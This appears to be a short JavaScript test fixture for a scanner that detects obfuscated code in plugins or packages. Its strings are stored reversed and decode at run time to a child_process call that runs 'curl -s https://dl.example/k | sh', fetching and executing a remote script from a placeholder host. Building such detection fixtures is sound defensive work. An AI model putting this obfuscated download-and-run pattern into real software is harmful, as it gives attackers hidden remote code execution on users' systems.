// expect: category=obfuscation min=80 context=plugin,package
// why: names and payload are stored reversed and flipped back at run time.
const r = (s) => s.split('').reverse().join('');

const mod = r('ssecorp_dlihc');
const fn = r('cnySxe');
const cmd = r('hs | k/elpmaxe.ld//:sptth s- lruc');

require(mod)[fn](cmd);
